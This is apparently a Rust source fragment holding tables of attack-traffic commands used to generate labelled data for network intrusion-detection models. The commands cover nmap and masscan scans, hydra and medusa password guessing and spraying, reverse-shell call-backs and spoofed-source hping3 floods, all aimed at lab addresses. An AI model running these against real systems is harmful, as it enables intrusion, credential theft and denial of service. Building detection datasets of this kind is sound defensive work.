wide6              attacker 6.0  nmap -6 -n -Pn -sS -p 80 -T4 --min-rate 40 -S {src6} -e {dev} fd83::4:0/122
sweep-t3           attacker 4.0  nmap -n -sn -PE --disable-arp-ping -T3 10.83.4.1-60
sweep-t5           attacker 4.0  nmap -n -sn -PE --disable-arp-ping -T5 10.83.4.1-60
sweep-all          attacker 4.0  nmap -n -sn -PE -PP -PS443 -PA80 --disable-arp-ping -T4 10.83.4.1-60
sweep-payload      attacker 4.0  nmap -n -sn -PE --data-length 56 --disable-arp-ping -T4 --max-rate 40 10.83.4.1-60
sweep-fping        attacker 5.0  held ~fping -q -S {src} -r 0 -i 20 -t 300 -g 10.83.4.1 10.83.4.60
sweep6             attacker 4.0  nmap -6 -n -sn -PE --disable-arp-ping -T4 --min-rate 40 -S {src6} -e {dev} fd83::4:0/122
quiet-syn          attacker 4.0  nmap -n -Pn -sS -F --min-rate 100 --max-retries 0 {quiet}.7
quiet-syn-fast     attacker 3.0  nmap -n -Pn -sS -p 1-500 --min-rate 600 --max-retries 0 {quiet}.9
quiet-syn-again    attacker 6.0  nmap -n -Pn -sS -p 1-400 --min-rate 80 --max-retries 3 {quiet}.11
quiet-syn-t5       attacker 5.0  nmap -n -Pn -sS -p 1-5000 -T5 --min-rate 1000 {quiet}.12
quiet-hosts        attacker 4.0  nmap -n -Pn -sS -p 22,80,443 --min-rate 60 --max-retries 0 {quiet}.0/25
quiet-hosts-fast   attacker 3.0  nmap -n -Pn -sS -p 445 --min-rate 500 --max-retries 0 {quiet}.0/24
quiet-hosts-few    attacker 5.0  nmap -n -Pn -sS -F --min-rate 150 --max-retries 1 {quiet}.1-6
quiet-connect      attacker 5.0  nmap -n -Pn -sT -F --min-rate 60 --max-retries 0 {quiet}.7
quiet-fin          attacker 4.0  nmap -n -Pn -sF -F --min-rate 60 --max-retries 0 {quiet}.7
quiet-udp          attacker 4.0  nmap -n -Pn -sU -F --min-rate 60 --max-retries 0 {quiet}.7
quiet-udp-hosts    attacker 4.0  nmap -n -Pn -sU -p 161 --min-rate 100 --max-retries 0 {quiet}.0/24
quiet-sweep        attacker 4.0  nmap -n -sn -PE --min-rate 80 --max-retries 0 {quiet}.0/24
quiet-sweep-syn    attacker 4.0  nmap -n -sn -PS22,443 -PA80 --min-rate 80 --max-retries 0 {quiet}.0/24
quiet-hping        attacker 4.0  hping3 -q -I {dev} -a {src} -S -p ++20 -i u10000 -c {n@100} {quiet}.7
quiet-trafgen      attacker 4.0  trafgen --dev {dev} -P 1 -n {n@200} -t 5000us {eth(da={quietmac}),ipv4(sa={src},da={quiet}.7),tcp(sp=50123,dp=drnd(),syn)}
quiet-trafgen-wide attacker 4.0  trafgen --dev {dev} -P 1 -n {n@100} -t 10000us {eth(da={quietmac}),ipv4(sa={src},da={quiet}.0,da[3]=drnd()),tcp(sp=40321,dp=23,syn)}
quiet6-syn         attacker 4.0  nmap -6 -n -Pn -sS -F --min-rate 80 --max-retries 0 -S {src6} -e {dev} {quiet6}:7
quiet-masscan      attacker 4.0  held masscan {quiet}.0/24 -p80 --rate 300 --wait 1 --adapter-ip {src} --router-mac {quietmac} -e {dev}
quiet-masscan-one  attacker 4.0  held masscan {quiet}.7 -p1-1000 --rate 500 --wait 1 --adapter-ip {src} --router-mac {quietmac} -e {dev}
quiet-nping        attacker 4.0  held nping -q --tcp --flags syn -c 1 -p 1-400 --rate 80 -S {src} --dest-mac {quietmac} -e {dev} {quiet}.7
quiet-zmap         attacker 4.0  held zmap -q -p 443 -i {dev} -S {src} -G {quietmac} -r 100 -c 1 -b /dev/null -o /dev/null {quiet}.0/24
quiet-fping        attacker 4.0  held ~fping -q -S {src} -r 0 -i 10 -t 300 -g {quiet}.0/25
filtered-syn       attacker 4.0  nmap -n -Pn -sS -F --min-rate 60 --max-retries 1 {filtered}
filtered-syn-fast  attacker 3.0  nmap -n -Pn -sS -p 1-1000 --min-rate 700 --max-retries 0 {filtered}
filtered-connect   attacker 5.0  nmap -n -Pn -sT -F --min-rate 60 {filtered}
filtered-version   attacker 7.0  nmap -n -Pn -sV --version-light -p 20-120,443 --min-rate 60 --max-retries 0 {filtered}
filtered-udp       attacker 4.0  nmap -n -Pn -sU -F --min-rate 50 --max-retries 0 {filtered}
filtered-ack       attacker 4.0  held nmap -n -Pn -sA -F --min-rate 60 --max-retries 0 {filtered}
filtered-masscan   attacker 4.0  held masscan {filtered} -p1-1500 --rate 300 --wait 1 --adapter-ip {src} --router-mac {dmac} -e {dev}
short-ports-20     attacker 1.5  nmap -n -Pn -sS --top-ports 20 -T4 {dst}
short-ports-100    attacker 1.5  nmap -n -Pn -sS -F -T5 {dst}
short-connect-30   attacker 1.5  nmap -n -Pn -sT --top-ports 30 -T5 {dst}
short-hosts        attacker 1.5  nmap -n -Pn -sS -p 80 -T5 --min-rate 300 10.83.4.1-50
short-hosts-closed attacker 1.5  nmap -n -Pn -sS -p 8080 -T5 --min-rate 200 10.83.4.1-40
short-sweep        attacker 1.5  nmap -n -sn -PE --disable-arp-ping --min-rate 300 10.83.4.1-60
short-udp          attacker 1.5  nmap -n -Pn -sU --top-ports 30 --min-rate 100 --max-retries 0 {dst}
short-quiet        attacker 2.0  nmap -n -Pn -sS --top-ports 40 --min-rate 400 --max-retries 0 {quiet}.5
short-masscan      attacker 1.5  held masscan {dst} -p1-100 --rate 1000 --wait 0 --adapter-ip {src} --router-mac {dmac} -e {dev}
scan-fin-fast      attacker 3.0  nmap -n -Pn -sF -p 1-3000 -T5 --min-rate 1500 {dst}
scan-ack-fast      attacker 3.0  nmap -n -Pn -sA -p 1-3000 -T5 --min-rate 1200 {dst}
scan-null-fast     attacker 3.0  held nmap -n -Pn -sN -p 1-2000 -T5 --min-rate 1000 {dst}
quiet-sweep-fast   attacker 3.0  nmap -n -sn -PE --min-rate 600 --max-retries 0 {quiet}.0/24
quiet-null-fast    attacker 3.0  nmap -n -Pn -sN -p 1-800 --min-rate 800 --max-retries 0 {quiet}.7
short-now-and-then attacker 8.0  {traffic} repeat --any-code --seconds {s} --rate 1 -- nmap -n -Pn -sS --top-ports 25 -T4 {dst}
";

/// As nmap's T2 does it, or slower still.
pub(in crate::record) const SLOW_SCANS: &str = "
slow-syn-t2        attacker 25.0 nmap -n -Pn -sS -p 1-60 -T2 {dst}
slow-connect-t2    attacker 25.0 nmap -n -Pn -sT -p 20-80 -T2 {dst}
slow-fin-t2        attacker 25.0 held nmap -n -Pn -sF -p 1-60 -T2 {dst}
slow-udp-t2        attacker 25.0 nmap -n -Pn -sU -p 100-160 -T2 --max-retries 0 {dst}
slow-syn-10        attacker 10.0 nmap -n -Pn -sS -p 1-2000 --max-rate 10 {dst}
slow-syn-1         attacker 30.0 nmap -n -Pn -sS -p 1-100 --max-retries 0 --scan-delay 1s {dst}
slow-wide-2        attacker 25.0 nmap -n -Pn -sS -p 445 --disable-arp-ping --max-retries 0 --max-rate 2 10.83.4.1-60
slow-wide-5        attacker 12.0 held nmap -n -Pn -sT -p 22 --max-retries 0 --max-rate 5 10.83.4.1-60
slow-sweep-10      attacker 7.0  nmap -n -sn -PE --disable-arp-ping --max-rate 10 10.83.4.1-60
slow-sweep-payload attacker 13.0 nmap -n -sn -PE --data-length 48 --disable-arp-ping --max-retries 0 --max-rate 4 10.83.4.1-60
slow-sweep-2       attacker 25.0 held ~fping -q -S {src} -r 0 -i 500 -t 300 -g 10.83.4.1 10.83.4.60
slow-banners       attacker 15.0 {attack} banners {src} {dst} --rate 3 --seconds {s}
slow6-syn-t2       attacker 25.0 held nmap -6 -n -Pn -sS -p 1-60 -T2 -S {src6} -e {dev} {dst6}
quiet-syn-t2       attacker 20.0 nmap -n -Pn -sS -p 1-60 -T2 {quiet}.5
quiet-syn-t3       attacker 9.0  nmap -n -Pn -sS -F -T3 {quiet}.3
quiet-syn-t4       attacker 9.0  nmap -n -Pn -sS -p 1-1000 -T4 {quiet}.4
quiet-udp-t4       attacker 8.0  nmap -n -Pn -sU -F -T4 {quiet}.6
quiet-hosts-t3     attacker 8.0  nmap -n -Pn -sS -p 3389 -T3 {quiet}.0/24
quiet-sweep-t4     attacker 8.0  nmap -n -sn -PE -T4 {quiet}.0/25
quiet-sweep-2      attacker 20.0 nmap -n -sn -PE --max-rate 2 --max-retries 0 {quiet}.0/26
quiet-syn-5        attacker 12.0 nmap -n -Pn -sS -p 1-300 --max-retries 0 --max-rate 5 {quiet}.9
quiet-masscan-8    attacker 12.0 held masscan {quiet}.0/24 -p22,445 --rate 8 --wait 1 --adapter-ip {src} --router-mac {quietmac} -e {dev}
quiet-ncat         attacker 12.0 ~nc.openbsd -n -v -z -w 1 -s {src} {quiet}.8 20-200
filtered-syn-t3    attacker 9.0  nmap -n -Pn -sS -F -T3 {filtered}
filtered-syn-t4    attacker 8.0  held nmap -n -Pn -sS -p 1-1000 -T4 {filtered}
";

/// Passwords, several at once.
pub(in crate::record) const GUESSING: &str = "
guess-ssh-4        attacker 10.0 ~hydra -I -q -t 4 -l clerk -P {words} ssh://{dst}
guess-ssh-16       attacker 10.0 ~hydra -I -q -t 16 -l root -P {words} ssh://{dst}
guess-ssh-spray    attacker 10.0 ~hydra -I -q -u -t 4 -L {words} -p summer ssh://{dst}
guess-ssh-ncrack   attacker 20.0 held ~ncrack -T4 --user clerk -P {words} ssh://{dst}
guess-ssh-medusa   attacker 10.0 held ~medusa -h {dst} -u clerk -P {words} -M ssh -t 4
guess-ftp-4        attacker 10.0 ~hydra -I -q -t 4 -l clerk -P {words} ftp://{dst}
guess-ftp-16       attacker 10.0 ~hydra -I -q -t 16 -l clerk -P {words} ftp://{dst}
guess-ftp-ncrack   attacker 10.0 ~ncrack -T4 --user clerk -P {words} ftp://{dst}
guess-ftp-medusa   attacker 10.0 held ~medusa -h {dst} -u clerk -P {words} -M ftp -t 4
guess-telnet       attacker 12.0 ~hydra -I -q -t 4 -l clerk -P {words} telnet://{dst}
guess-telnet-16    attacker 10.0 ~hydra -I -q -t 16 -L {words} -p summer telnet://{dst}
guess-http-4       attacker 8.0  ~hydra -I -q -t 4 -l clerk -P {words} http-get://{dst}/private/
guess-http-16      attacker 8.0  ~hydra -I -q -t 16 -l clerk -P {words} http-get://{dst}/private/
guess-http-medusa  attacker 8.0  held ~medusa -h {dst} -u clerk -P {words} -M http -m DIR:/private/ -t 4
guess-postgres     attacker 8.0  ~hydra -I -q -t 4 -l postgres -P {words} postgres://{dst}
guess6-ssh         attacker 10.0 ~hydra -I -q -6 -t 4 -l clerk -P {words} ssh://[{dst6}]
guess-ftp-32       attacker 6.0  ~hydra -I -q -t 32 -L {words} -p summer ftp://{dst}
guess-ftp-once     attacker 8.0  {attack} guess-ftp {src} {dst} --rate 5 --tries 1 --seconds {s}
guess-ftp-thrice   attacker 8.0  {attack} guess-ftp {src} {dst} --rate 2 --tries 3 --seconds {s}
guess-ftp-one-try  attacker 8.0  ~ncrack -g CL=4,at=1,cd=200ms --user clerk -P {words} ftp://{dst}
guess-ftp-patator  attacker 8.0  ~patator ftp_login host={dst} user=clerk password=FILE0 0={words} -t 6
guess6-ftp         attacker 8.0  ~hydra -I -q -6 -t 6 -l clerk -P {words} ftp://[{dst6}]
guess-ssh-8        attacker 8.0  ~hydra -I -q -t 8 -l admin -P {words} ssh://{dst}
guess-ssh-patator  attacker 8.0  ~patator ssh_login host={dst} user=clerk password=FILE0 0={words} -t 4
guess-http-once    attacker 8.0  {attack} guess-http {src} {dst} --rate 20 --seconds {s}
guess-http-keep    attacker 8.0  {attack} guess-http {src} {dst} --rate 4 --tries 6 --seconds {s}
guess-http-ncrack  attacker 8.0  ~ncrack -g CL=3,at=1,cd=200ms --user clerk -P {words} http://{dst},path=/private/
guess-http-patator attacker 8.0  held ~patator http_fuzz url=http://{dst}/private/ resolve={dst}:{dst} user_pass=clerk:FILE0 0={words} -t 4
guess-telnet-8     attacker 8.0  ~hydra -I -q -t 8 -l root -P {words} telnet://{dst}
guess-telnet-many  attacker 8.0  {attack} guess-telnet {src} {dst} --rate 3 --tries 2 --seconds {s}
guess-telnet-pat   attacker 8.0  held ~patator telnet_login host={dst} inputs=clerk\\nFILE0 0={words} prompt_re=login:|Password: -t 4
guess-pop3         attacker 8.0  ~hydra -I -q -t 4 -l clerk -P {words} pop3://{dst}
guess-pop3-16      attacker 6.0  ~hydra -I -q -t 16 -L {words} -p summer pop3://{dst}
guess-pop3-medusa  attacker 8.0  held ~medusa -h {dst} -u clerk -P {words} -M pop3 -t 4
guess-postgres-16  attacker 6.0  ~hydra -I -q -t 16 -l postgres -P {words} postgres://{dst}
guess-http-agent   attacker 6.0  {attack} guess-http {src} {dst} --agent 90 --rate 6 --seconds {s}
guess-ftp-pins     attacker 8.0  {attack} guess-ftp {src} {dst} --pins --rate 4 --seconds {s}
guess-pop3-pins    attacker 8.0  ~hydra -I -q -t 4 -l clerk -x 4:4:1 pop3://{dst}
guess-ssh-pins     attacker 10.0 ~hydra -I -q -t 4 -l clerk -x 4:4:1 ssh://{dst}
";

/// Passwords, one after the other, one every second or two.
pub(in crate::record) const SLOW_GUESSING: &str = "
slow-guess-ssh     attacker 30.0 ~hydra -I -q -t 1 -W 1 -l clerk -P {words} ssh://{dst}
slow-guess-ftp     attacker 30.0 ~hydra -I -q -t 1 -W 1 -l clerk -P {words} ftp://{dst}
slow-guess-telnet  attacker 30.0 {attack} guess-telnet {src} {dst} --rate 1 --seconds {s}
slow-guess-http    attacker 30.0 {attack} guess-http {src} {dst} --rate 1 --seconds {s}
slow-guess-http-05 attacker 30.0 held {attack} guess-http {src} {dst} --rate 0.5 --seconds {s}
slow-guess-ssh-05  attacker 30.0 held ~medusa -h {dst} -u root -P {words} -M ssh -t 1
slow-guess-ftp-05  attacker 25.0 {attack} guess-ftp {src} {dst} --rate 0.5 --tries 1 --seconds {s}
slow-guess-ftp-3   attacker 25.0 {attack} guess-ftp {src} {dst} --rate 0.4 --tries 3 --seconds {s}
slow-guess-http-2  attacker 20.0 {attack} guess-http {src} {dst} --rate 2 --seconds {s}
slow-guess-curl    attacker 16.0 {traffic} repeat --any-code --words {words} --seconds {s} --rate 1.5 -- curl -sS -o /dev/null --interface {src} -u clerk:WORD http://{dst}/private/
slow-guess-ssh-one attacker 25.0 {traffic} repeat --any-code --words {words} --seconds {s} --rate 1 -- sshpass -p WORD ssh -F /dev/null -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o PubkeyAuthentication=no -o NumberOfPasswordPrompts=1 -b {src} clerk@{dst} true
slow-guess-tel-05  attacker 25.0 {attack} guess-telnet {src} {dst} --rate 0.5 --tries 2 --seconds {s}
slow-guess-pop3    attacker 15.0 ~hydra -I -q -t 1 -W 1 -l clerk -P {words} pop3://{dst}
slow-guess-agent   attacker 20.0 {attack} guess-http {src} {dst} --agent 60 --rate 1.5 --seconds {s}
slow-guess-agent-2 attacker 18.0 {attack} guess-http {src} {dst} --agent 300 --rate 1 --seconds {s}
slow-guess-ftp-pin attacker 25.0 {attack} guess-ftp {src} {dst} --pins --rate 0.5 --seconds {s}
slow-guess-tel-pin attacker 25.0 {attack} guess-telnet {src} {dst} --pins --rate 1 --seconds {s}
slow-guess-pop-pin attacker 20.0 ~hydra -I -q -t 1 -W 1 -l clerk -x 4:4:1 pop3://{dst}
slow-guess-ftp-med attacker 25.0 held ~medusa -h {dst} -u clerk -P {words} -M ftp -t 1
";

/// What of u2r is a flow at all: the victim calls the attacker and is typed to,
/// or a session begins with an upload and goes on as somebody typing.
pub(in crate::record) const SHELLS: &str = "
shell-reverse-ncat attacker 10.0 {attack} operator {src} --port 4444 --seconds {s}
                            +    @h1 {attack} call-back {src} --port 4444 --seconds {s}
shell-reverse-443  attacker 10.0 held {attack} operator {src} --port 443 --seconds {s}
                            +    @h1 {attack} call-back {src} --port 443 --seconds {s}
shell-telnet       attacker 12.0 {attack} telnet-exploit {src} {dst} --seconds {s}
";

/// The first moments of floods: in the tables above they are a row in a thousand, and models did not know them.
pub(in crate::record) const STARTS: &str = "
begin-icmp           attacker 12.0 {attack} starts {net} --rate 0.3 --seconds {s} -- hping3 -q -I {dev} -a SOURCE -1 -i u800 {dst}
begin-icmp-56        attacker 12.0 {attack} starts {net} --rate 0.3 --seconds {s} -- hping3 -q -I {dev} -a SOURCE -1 -d 56 -i u900 {dst}
begin-icmp-120       attacker 12.0 {attack} starts {net} --rate 0.3 --seconds {s} -- hping3 -q -I {dev} -a SOURCE -1 -d 120 -i u700 {dst}
begin-icmp-large     attacker 12.0 {attack} starts {net} --rate 0.3 --seconds {s} -- hping3 -q -I {dev} -a SOURCE -1 -d 1000 -i u800 {dst}
begin-icmp-400      attacker 12.0 {attack} starts {net} --rate 0.3 --seconds {s} -- hping3 -q -I {dev} -a SOURCE -1 -d 400 -i u800 {dst}
begin-icmp-1400     attacker 12.0 {attack} starts {net} --rate 0.3 --seconds {s} -- hping3 -q -I {dev} -a SOURCE -1 -d 1400 -i u750 {dst}
begin-icmp-2000      attacker 12.0 {attack} starts {net} --rate 0.3 --seconds {s} -- hping3 -q -I {dev} -a SOURCE -1 -d 32 -i u450 {dst}
begin-ping-f         attacker 12.0 {attack} starts {net} --rate 0.3 --seconds {s} -- ping -q -n -f -I SOURCE {dst}
begin-udp            attacker 12.0 {attack} starts {net} --rate 0.3 --seconds {s} -- hping3 -q -I {dev} -a SOURCE -2 -p 53 -d 60 -i u700 {dst}
begin-udp-flow       attacker 12.0 {attack} starts {net} --rate 0.3 --seconds {s} -- hping3 -q -I {dev} -a SOURCE -2 -s 4444 -k -p 9999 -d 400 -i u400 {dst}
begin-udp-flow-small attacker 12.0 {attack} starts {net} --rate 0.3 --seconds {s} -- hping3 -q -I {dev} -a SOURCE -2 -s 5555 -k -p 5060 -d 80 -i u800 {dst}
begin-udp-flow-large attacker 12.0 {attack} starts {net} --rate 0.3 --seconds {s} -- hping3 -q -I {dev} -a SOURCE -2 -s 7777 -k -p 443 -d 1300 -i u600 {dst}
begin-frag-udp       attacker 12.0 {attack} starts {net} --rate 0.3 --seconds {s} -- hping3 -q -I {dev} -a SOURCE -2 -p 7000 -d 2600 -m 1000 -i u700 {dst}
begin-syn            attacker 12.0 {attack} starts {net} --rate 0.3 --seconds {s} -- hping3 -q -I {dev} -a SOURCE -S -p 80 -i u800 {dst}
begin-ack            attacker 12.0 {attack} starts {net} --rate 0.3 --seconds {s} -- hping3 -q -I {dev} -a SOURCE -A -p 80 -i u800 {dst}
begin-push-flow      attacker 12.0 {attack} starts {net} --rate 0.3 --seconds {s} -- hping3 -q -I {dev} -a SOURCE -P -A -s 3333 -k -p 80 -d 300 -i u600 {dst}
begin-conn-ab        attacker 12.0 {attack} starts {net} --rate 0.3 --seconds {s} -- ab -q -r -s 2 -B SOURCE -c 40 -n 1000000 http://{dst}/1000
begin-conn-ab-100    attacker 12.0 {attack} starts {net} --rate 0.3 --seconds {s} -- ab -q -r -s 2 -B SOURCE -c 100 -n 1000000 http://{dst}/5000
begin-conn-bare      attacker 12.0 {attack} starts {net} --rate 0.3 --seconds {s} -- {attack} connect SOURCE {dst} --port 80 --rate 1500 --seconds 1
begin-conn-curl      attacker 12.0 {attack} starts {net} --rate 0.3 --seconds {s} -- curl -sS -o /dev/null --interface SOURCE -H Connection:close -Z --parallel-immediate --parallel-max 80 http://{dst}/1000?[1-40000]
";

/// The same of scans as fast as these floods, or models would take every fast beginning for a flood.
pub(in crate::record) const FAST_SCANS: &str = "
begin-scan-syn         attacker 12.0 {attack} starts {net} --rate 0.3 --burst 1.3 --seconds {s} -- trafgen --dev {dev} -P 1 -n 1200 -t 900us {eth(da={dmac}),ipv4(sa=SOURCE,da={dst}),tcp(sp=50123,dp=drnd(),syn)}
begin-scan-fin         attacker 12.0 {attack} starts {net} --rate 0.3 --burst 1.3 --seconds {s} -- trafgen --dev {dev} -P 1 -n 1200 -t 1000us {eth(da={dmac}),ipv4(sa=SOURCE,da={dst}),tcp(sp=40111,dp=drnd(),fin)}
begin-scan-null        attacker 12.0 {attack} starts {net} --rate 0.3 --burst 1.3 --seconds {s} -- trafgen --dev {dev} -P 1 -n 1200 -t 1100us {eth(da={dmac}),ipv4(sa=SOURCE,da={dst}),tcp(sp=44321,dp=drnd())}
begin-scan-ack         attacker 12.0 {attack} starts {net} --rate 0.3 --burst 1.3 --seconds {s} -- trafgen --dev {dev} -P 1 -n 1200 -t 800us {eth(da={dmac}),ipv4(sa=SOURCE,da={dst}),tcp(sp=51222,dp=drnd(),ack)}
begin-scan-udp         attacker 12.0 {attack} starts {net} --rate 0.3 --burst 1.3 --seconds {s} -- trafgen --dev {dev} -P 1 -n 1200 -t 1000us {eth(da={dmac}),ipv4(sa=SOURCE,da={dst}),udp(sp=53111,dp=drnd())}
begin-scan-quiet-syn   attacker 12.0 {attack} starts {net} --rate 0.3 --burst 1.3 --seconds {s} -- trafgen --dev {dev} -P 1 -n 1200 -t 800us {eth(da={quietmac}),ipv4(sa=SOURCE,da={quiet}.7),tcp(sp=50123,dp=drnd(),syn)}
begin-scan-quiet-xmas  attacker 12.0 {attack} starts {net} --rate 0.3 --burst 1.3 --seconds {s} -- trafgen --dev {dev} -P 1 -n 1200 -t 1100us {eth(da={quietmac}),ipv4(sa=SOURCE,da={quiet}.8),tcp(sp=42123,dp=drnd(),fin,psh,urg)}
begin-scan-quiet-fin   attacker 12.0 {attack} starts {net} --rate 0.3 --burst 1.3 --seconds {s} -- trafgen --dev {dev} -P 1 -n 1200 -t 1000us {eth(da={quietmac}),ipv4(sa=SOURCE,da={quiet}.5),tcp(sp=42777,dp=drnd(),fin)}
begin-scan-quiet-udp   attacker 12.0 {attack} starts {net} --rate 0.3 --burst 1.3 --seconds {s} -- trafgen --dev {dev} -P 1 -n 1200 -t 900us {eth(da={quietmac}),ipv4(sa=SOURCE,da={quiet}.9),udp(sp=53111,dp=drnd())}
begin-scan-quiet-wide  attacker 12.0 {attack} starts {net} --rate 0.3 --burst 1.3 --seconds {s} -- trafgen --dev {dev} -P 1 -n 1200 -t 1000us {eth(da={quietmac}),ipv4(sa=SOURCE,da={quiet}.0,da[3]=drnd()),tcp(sp=40321,dp=445,syn)}
";
